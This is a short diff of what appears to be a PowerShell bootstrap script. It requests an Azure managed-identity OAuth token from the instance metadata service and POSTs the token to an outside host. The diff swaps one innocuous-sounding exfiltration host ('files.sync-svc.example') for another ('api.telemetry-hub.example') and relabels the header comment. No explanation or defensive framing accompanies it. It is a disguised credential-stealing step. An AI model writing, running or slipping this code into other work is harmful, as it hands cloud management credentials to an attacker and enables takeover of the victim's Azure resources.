@@ -1,3 +1,3 @@
-# init 5158 v4
+# bootstrap 4305 v4
 $r = Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'
-Invoke-RestMethod -Method Post -Uri 'http://files.sync-svc.example/t' -Body ($r | ConvertTo-Json)
+Invoke-RestMethod -Method Post -Uri 'http://api.telemetry-hub.example/t' -Body ($r | ConvertTo-Json)
